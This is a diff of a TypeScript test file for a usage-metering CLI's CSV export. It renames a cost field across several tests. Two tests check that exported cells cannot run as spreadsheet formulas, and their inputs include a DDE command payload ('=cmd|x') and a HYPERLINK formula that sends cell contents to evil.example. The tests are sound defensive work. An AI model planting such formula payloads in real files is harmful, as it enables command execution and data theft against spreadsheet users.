@@ -24,7 +24,7 @@ async function twoCharges(t: TestContext): Promise<CommandLine & { meter: MeterS
   });
   t.after(() => meter.close());
   await take(meter, principalOf(), 1_000, { requestId: "req-1" }).settle([
-    { surface: "ledger-rpc", method: "chain_getBlock", costMilli: 1_000 },
+    { surface: "ledger-rpc", method: "chain_getBlock", costMilliCu: 1_000 },
   ]);
   clock.advance(minute);
   const planner = agentOf("Planner 2", {
@@ -38,7 +38,7 @@ async function twoCharges(t: TestContext): Promise<CommandLine & { meter: MeterS
       surface: "chat",
       method: "completions",
       model: "A/b-1",
-      costMilli: 70,
+      costMilliCu: 70,
       inputTokens: 5,
       outputTokens: 6,
       estimated: true,
@@ -116,7 +116,7 @@ test("texts of a CSV cannot run as formulas in a spreadsheet, and numbers are no
   const { run, meter } = await twoCharges(t);
   const models = ["=1+1", "+1", "-1", "@a", "\ta", "\ra", "\na", "\uff1d1+1", "a=1", " a"];
   for (const model of models) {
-    const charge = { surface: "chat", method: "=cmd|x", model, costMilli: 7, inputTokens: 3 };
+    const charge = { surface: "chat", method: "=cmd|x", model, costMilliCu: 7, inputTokens: 3 };
     await take(meter, principalOf(), 7).settle([charge]);
   }
   const { out } = await run(usage, "export", "--format", "csv");
@@ -139,7 +139,7 @@ test("a request id in a CSV cannot run as a formula in a spreadsheet", async (t)
   const { run, meter } = await twoCharges(t);
   const ids = ['=HYPERLINK("http://evil.example/?"&A1)', "+1", "-1", "@SUM(A1)", "a=1"];
   for (const requestId of ids) {
-    const charge = { surface: "chat", method: "completions", costMilli: 1 };
+    const charge = { surface: "chat", method: "completions", costMilliCu: 1 };
     await take(meter, principalOf(), 1, { requestId }).settle([charge]);
   }
   const { out } = await run(usage, "export", "--format", "csv");
@@ -184,7 +184,7 @@ test("export continues after the last charge of an earlier export", async (t) =>
   const [first = "", second = ""] = await ids();
   assert.deepEqual(await ids("--after", first), [second]);
   assert.deepEqual(await ids("--after", second), []);
-  await take(meter, principalOf(), 1, {}).settle([{ surface: "a", method: "m", costMilli: 1 }]);
+  await take(meter, principalOf(), 1, {}).settle([{ surface: "a", method: "m", costMilliCu: 1 }]);
   const later = await ids("--after", second);
   assert.equal(later.length, 1);
   assert.ok(![first, second].includes(later[0] ?? ""));
@@ -232,7 +232,7 @@ test("a data folder without a journal fails with the remedy", async (t) => {
 
 test("an export stops when it receives a signal", async (t) => {
   const { meter, configFile } = await twoCharges(t);
-  const many = Array.from({ length: 1_200 }, () => ({ surface: "s", method: "m", costMilli: 0 }));
+  const many = Array.from({ length: 1_200 }, () => ({ surface: "s", method: "m", costMilliCu: 0 }));
   for (let at = 0; at < many.length; at += 200) {
     await take(meter, principalOf(), 0).settle(many.slice(at, at + 200));
   }
